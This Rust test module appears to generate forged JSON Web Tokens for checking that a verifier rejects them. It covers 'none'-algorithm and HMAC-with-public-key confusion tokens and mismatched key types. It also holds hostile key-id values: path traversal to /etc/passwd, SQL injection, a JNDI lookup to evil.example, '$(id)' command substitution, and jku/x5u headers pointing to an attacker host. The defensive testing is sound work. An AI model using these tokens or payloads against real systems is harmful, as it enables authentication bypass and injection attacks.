//! Tokens whose algorithm, key or header is not what their issuer signs with.

use jsonwebtoken::Algorithm::{HS256, HS384, HS512, PS256, RS384};
use serde_json::{Value, json};

use super::{
    super::signing::{RSA_ONE, Signer, by_secret, encoded},
    Keys, SHARED, Table, add,
};

pub(super) fn algorithms(keys: &Keys, good: &Value) -> Table {
    let mut table = Table::new();
    let body = encoded(good.to_string());
    for none in ["none", "None", "NONE", "nOnE"] {
        let head = encoded(json!({ "alg": none, "kid": "rsa" }).to_string());
        add(&mut table, none, format!("{head}.{body}."));
        add(&mut table, &format!("{none}, signed"), format!("{head}.{body}.AAAA"));
        add(&mut table, &format!("{none}, by the key"), keys.rsa.over(&format!("{head}.{body}")));
    }
    let jwk = keys.rsa.jwk("rsa", json!({ "alg": "RS256", "use": "sig" }));
    let secrets = [
        ("the PEM", RSA_ONE.as_bytes().to_vec()),
        ("the JWK", jwk.to_string().into_bytes()),
        ("the modulus", jwk["n"].as_str().expect("n").as_bytes().to_vec()),
        ("nothing", Vec::new()),
        ("the published secret", SHARED.to_vec()),
    ];
    for (name, secret) in &secrets {
        for algorithm in [HS256, HS384, HS512] {
            for kid in ["rsa", "oct"] {
                let token = by_secret(secret, algorithm, kid, good);
                add(&mut table, &format!("{algorithm:?} by {name} as {kid}"), token);
            }
        }
    }
    let headed = |algorithm: &str, kid: &str, signer: &Signer| {
        signer.raw(&json!({ "alg": algorithm, "kid": kid }).to_string(), &good.to_string())
    };
    for (name, token) in [
        ("RS256 said to be PS256", headed("PS256", "any", &keys.any_rsa)),
        ("PS256 said to be RS256", headed("RS256", "any", &keys.any_rsa.with(PS256))),
        ("PS256 by a key for RS256", keys.rsa.with(PS256).token("rsa", good)),
        ("RS384 by a key for RS256", keys.rsa.with(RS384).token("rsa", good)),
        ("ES256 under a key for ES384", headed("ES256", "p384", &keys.p256)),
        ("ES384 under a key for ES256", keys.p384.token("p256", good)),
        ("ES384 said to be ES256", headed("ES256", "p256", &keys.p384)),
        ("EdDSA under an RSA key", keys.ed.token("rsa", good)),
        ("RS256 under an EdDSA key", keys.rsa.token("ed", good)),
        ("EdDSA by another key", Signer::edwards().token("ed", good)),
        ("ES256 by another key", keys.own.token("p256", good)),
        ("RS256 by another key", keys.any_rsa.token("rsa", good)),
        ("RS256 by a short key", keys.short.token("short", good)),
        ("ES256K", headed("ES256K", "p256", &keys.p256)),
        ("RS1", headed("RS1", "rsa", &keys.rsa)),
        ("rs256", headed("rs256", "rsa", &keys.rsa)),
        ("no algorithm", keys.rsa.raw(r#"{"kid":"rsa"}"#, &good.to_string())),
        ("a number", keys.rsa.raw(r#"{"alg":256,"kid":"rsa"}"#, &good.to_string())),
        ("null", keys.rsa.raw(r#"{"alg":null,"kid":"rsa"}"#, &good.to_string())),
        ("a list", keys.rsa.raw(r#"{"alg":["RS256"],"kid":"rsa"}"#, &good.to_string())),
        ("two", keys.rsa.raw(r#"{"alg":"none","alg":"RS256","kid":"rsa"}"#, &good.to_string())),
    ] {
        add(&mut table, &format!("algorithm: {name}"), token);
    }
    table
}

pub(super) fn names_of_keys(keys: &Keys, good: &Value) -> Table {
    let mut table = Table::new();
    for kid in [
        "",
        "unknown",
        "RSA",
        "rsa ",
        "../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "' OR '1'='1",
        "rsa'; DROP TABLE keys; --",
        "https://evil.example/keys.json",
        "rsa\0",
        "rsa\n",
        "%72sa",
        "${jndi:ldap://evil.example}",
        "$(id)",
        "__proto__",
        "enc",
        "ops",
        "private",
        "new",
        "oct",
    ] {
        add(&mut table, &format!("kid {kid:?}"), keys.p256.token(kid, good));
        add(&mut table, &format!("kid {kid:?}, EdDSA"), keys.ed.token(kid, good));
    }
    add(&mut table, "a key that is there twice", keys.p256.token("twice", good));
    add(&mut table, "the other of them", keys.own.token("twice", good));
    add(&mut table, "a long name", keys.ed.token(&"ed".repeat(1500), good));
    for header in [
        r#"{"alg":"EdDSA"}"#,
        r#"{"alg":"EdDSA","kid":null}"#,
        r#"{"alg":"EdDSA","kid":7}"#,
        r#"{"alg":"EdDSA","kid":["ed"]}"#,
        r#"{"alg":"EdDSA","kid":{"$ne":""}}"#,
        r#"{"alg":"EdDSA","kid":"p256","kid":"ed"}"#,
    ] {
        add(&mut table, &format!("header {header}"), keys.ed.raw(header, &good.to_string()));
    }
    table
}

pub(super) fn headers(keys: &Keys, good: &Value, evil: &str) -> Table {
    let own = keys.own.jwk("rsa", json!({}));
    let mut table = Table::new();
    for more in [
        json!({ "crit": ["exp"] }),
        json!({ "crit": [] }),
        json!({ "crit": ["b64"], "b64": false }),
        json!({ "b64": false }),
        json!({ "b64": "false" }),
        json!({ "jku": format!("{evil}/evil") }),
        json!({ "x5u": format!("{evil}/evil") }),
        json!({ "jwk": own }),
        json!({ "x5c": ["AAAA"] }),
        json!({ "zip": "DEF" }),
        json!({ "enc": "A128GCM" }),
        json!({ "cty": "JWT" }),
        json!({ "typ": "dpop+jwt" }),
        json!({ "typ": "JWE" }),
        json!({ "typ": "logout+jwt" }),
        json!({ "typ": 1 }),
    ] {
        for (kid, signer) in [("ed", &keys.ed), ("p256", &keys.own)] {
            let mut header = json!({ "alg": "EdDSA", "typ": "JWT", "kid": kid });
            if kid == "p256" {
                header["alg"] = "ES256".into();
            }
            for (name, value) in more.as_object().expect("an object") {
                header[name] = value.clone();
            }
            let token = signer.raw(&header.to_string(), &good.to_string());
            add(&mut table, &format!("{more} by {kid}"), token);
        }
    }
    let deep = format!(
        "{{\"alg\":\"EdDSA\",\"kid\":\"ed\",\"x\":{}1{}}}",
        "[".repeat(500),
        "]".repeat(500)
    );
    for header in ["[]", "null", "\"\"", "{", "", &deep, "\u{feff}{}"] {
        let token = keys.ed.raw(header, &good.to_string());
        add(&mut table, &format!("header {:.20}", header), token);
    }
    table
}
